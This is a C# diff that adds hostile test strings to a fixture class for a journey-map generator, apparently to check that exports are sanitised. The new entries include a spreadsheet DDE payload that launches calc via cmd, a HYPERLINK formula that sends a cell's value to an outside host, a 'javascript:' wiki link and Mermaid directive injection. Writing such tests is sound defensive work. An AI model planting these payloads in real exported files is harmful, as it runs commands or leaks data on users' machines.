@@ -24,6 +24,18 @@ internal static class Hostile
         ["devanagari"] = string.Concat(Enumerable.Repeat("ग्राहक यात्रा मानचित्रण ", 90)),
         ["widest"] = string.Concat(Enumerable.Repeat("﷽ 𒐫 ", 60)),
         ["empty"] = "",
+        ["formula"] = "=HYPERLINK(\"http://x/?\"&A1,\"look\")",
+        ["formulas"] = "+1-1\n@SUM(A1)\n-2+3\n=cmd|'/c calc'!A1",
+        ["tab"] = "\t=1+1",
+        ["apostrophe"] = "'=1",
+        ["number"] = "-2",
+        ["separators"] = "a,b;c\t\"d\"\"\r\n, \"e",
+        ["mermaid"] = "section title: 5: Me; %%{init: {'theme':'dark'}}%% # end --> ---",
+        ["title"] = "Title of accDescr: x",
+        ["style"] = "style x:#35;y classDef z:#fff;",
+        ["wiki"] = "{code} [~admin] !img.png! *bold* h1. || {html:x} @all [a|javascript:x]",
+        ["escaped"] = "_x000D_ _x0041_ &#10; \\n",
+        ["wide"] = "＝1+1",
     };
 
     public static JourneyMap Map(string text, string language = "en", int stages = 3)
